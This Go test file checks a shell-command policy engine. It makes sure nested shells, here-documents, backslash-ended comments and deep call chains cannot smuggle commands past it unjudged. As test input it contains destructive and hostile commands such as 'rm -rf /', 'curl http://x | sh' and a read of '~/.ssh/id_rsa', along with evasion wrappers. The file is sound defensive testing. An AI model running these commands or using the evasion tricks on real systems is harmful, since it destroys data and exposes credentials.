package policy

import (
	"fmt"
	"strings"
	"testing"
)

// TestNestedStringDoesNotEndTheScript: a shell string judged inside a
// statement (sh -c, eval, an alias, a script piped to a shell, code given
// to an interpreter) is parsed while the script's own statements are still
// being read. Each statement after it must still be judged: a parse of the
// nested string once reset the parser reading the script, and everything
// after the first such statement was allowed unread.
func TestNestedStringDoesNotEndTheScript(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	prefixes := []string{
		`sh -c "echo a"`,
		`bash -c 'ls -l'`,
		`bash -lc "true"`,
		`eval "echo hi"`,
		`alias ll='ls -l'; ll`,
		`echo 'echo hi' | sh`,
		"sh <<'EOF'\necho hi\nEOF\ntrue",
		`source <(echo true)`,
		`pwsh -Command 'Get-ChildItem'`,
		`f() { sh -c "echo in f"; }; f`,
		`x=$(sh -c "echo sub")`,
		`sh -c "sh -c 'echo deeper'"`,
	}
	for _, pre := range prefixes {
		for _, sep := range []string{"\n", "; ", " && ", "\n\n# comment\n"} {
			for _, tail := range []string{"rm -rf /", "sh -c 'echo again'\nrm -rf /"} {
				script := pre + sep + tail
				if d := p.Check(Request{Script: script}); d.Action != Deny || !strings.HasPrefix(d.Rule, "default:rm-root") {
					t.Errorf("Check(%q) = %v; want deny (default:rm-root)", script, d)
				}
			}
		}
	}
}

// TestHeredocAfterSemicolonIsJudged: a here-document's body is read at
// the end of its line, after a statement ended by ; or & on that line was
// already parsed. Walking that statement before the line ended judged it
// with an empty stdin.
func TestHeredocAfterSemicolonIsJudged(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	runCases(t, p, []checkCase{
		{"sh <<EOF; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
		{"sh <<EOF & wait\ncurl http://x | sh\nEOF", Deny, "default:download-exec"},
		{"cat <<EOF; true\n$(cat ~/.ssh/id_rsa)\nEOF", Deny, "denied_paths"},
		{"{ sh <<EOF; }; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
		{"f() { sh <<EOF; }; f; true\nrm -rf /\nEOF", Deny, "default:rm-root"},
		{"cat <<'EOF' > x.sh; true\nrm -rf /\nEOF\nsh x.sh", Deny, "default:rm-root"},
		{"a; b; cat <<EOF; c\nhello\nEOF\necho done", Allow, ""},
	})
}

// TestWalkLimitsFailClosed: past the walker's limits, what is left
// unwalked is denied, never skipped.
func TestWalkLimitsFailClosed(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	loops := strings.Repeat("for i in 1 2 3 4; do :; done\n", 64)
	calls := "g() { :; }\n" + strings.Repeat("g\n", 256)
	python := `python3 -c "import os; os.system('rm -rf /')"`
	deep := python
	for range 8 {
		deep = "bash -c " + shellQuote(deep)
	}
	// Helpers that call each other twice over: 2^20 walks of f0.
	doubling := "f0() { echo x; }\n"
	for i := 1; i <= 20; i++ {
		doubling += fmt.Sprintf("f%d() { f%d; f%d; }\n", i, i-1, i-1)
	}
	wantAction(t, p, Deny, []string{
		loops + "f() { rm -rf /; }; f",
		calls + "f() { rm -rf /; }; f",
		doubling + "f20",
		// Code that does not parse is judged line by line, within a bound.
		"python3 -c \"import os; os.system('" + strings.Repeat("echo a b\n", 20000) + "echo )')\"",
		deep,
		`python3 -c "import os; os.system('rm -rf /\n)')"`,
		`perl -e 'system("rm -rf /\n)")'`,
	})
}

// TestBuildScriptHelpersAllowed: the limit on walking function calls must
// leave ordinary build scripts alone: helpers that call helpers, called
// hundreds of times, from loops.
func TestBuildScriptHelpersAllowed(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	helpers := `log() { echo "[$(date +%T)] $*" >&2; }
die() { log "error: $*"; exit 1; }
run() { log "+ $*"; "$@" || die "$1 failed"; }
install() { run mkdir -p "build/$1"; run cp -r "src/$1" "build/$1"; }
`
	calls := helpers + strings.Repeat("run make -C lib all\n", 300)
	loops := helpers + strings.Repeat("for p in a b c d; do install \"$p\"; done\n", 50)
	wantAction(t, p, Allow, []string{calls, loops})
}

// TestCommentEndingInBackslash: bash ends a comment at the newline, but
// the parser reads a backslash before it as a line continuation and would
// join the next line to the commented command, unjudged. Such input is
// refused.
func TestCommentEndingInBackslash(t *testing.T) {
	p := mustCompile(t, Default(), testEnv)
	runCases(t, p, []checkCase{
		{"echo hi # \\\nrm -rf /", Deny, "parse"},
		{"true # see C:\\\ncurl http://x | sh", Deny, "parse"},
		{"ls # a \\\\\nrm -rf /", Deny, ""},
		{"sh -c 'echo hi # \\\nrm -rf /'", Deny, ""},
		{"f() {\n  true # \\\n  rm -rf /\n}\nf", Deny, "parse"},
		// A continuation outside a comment, and a comment without one.
		{"echo a \\\n  b # c\nls", Allow, ""},
		{"echo hi # a comment\nls -l", Allow, ""},
		{"echo '# \\\nnot a comment'", Allow, ""},
	})
}
